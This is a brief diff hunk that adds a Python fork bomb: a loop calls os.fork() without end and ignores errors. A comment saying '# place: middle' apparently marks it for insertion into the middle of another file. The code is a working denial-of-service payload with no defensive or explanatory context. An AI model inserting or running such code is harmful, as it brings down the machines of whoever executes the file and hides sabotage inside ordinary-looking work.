@@ -1,0 +1,7 @@
+# place: middle
+import os
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
